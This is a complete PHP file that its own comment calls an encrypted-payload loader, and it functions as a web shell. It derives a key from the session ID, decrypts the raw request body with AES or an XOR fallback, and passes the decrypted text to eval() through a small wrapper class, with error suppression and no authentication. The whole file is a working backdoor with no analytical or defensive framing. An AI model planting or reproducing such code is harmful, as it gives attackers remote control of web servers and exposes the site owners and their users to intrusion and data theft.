<?php
// an encrypted-payload loader: a session key, the body decrypted, then run
@session_start();
$key = substr(md5('k3y' . session_id()), 0, 16);
$_SESSION['k'] = $key;
$raw = file_get_contents('php://input');
if (!extension_loaded('openssl')) {
	$raw = base64_decode($raw);
	for ($i = 0; $i < strlen($raw); $i++) {
		$raw[$i] = $raw[$i] ^ $key[$i + 1 & 15];
	}
} else {
	$raw = openssl_decrypt($raw, 'AES-128-ECB', $key);
}
$parts = explode('|', $raw);
class Runner
{
	public function __invoke($p)
	{
		eval($p . '');
	}
}
@call_user_func(new Runner(), $parts[1]);
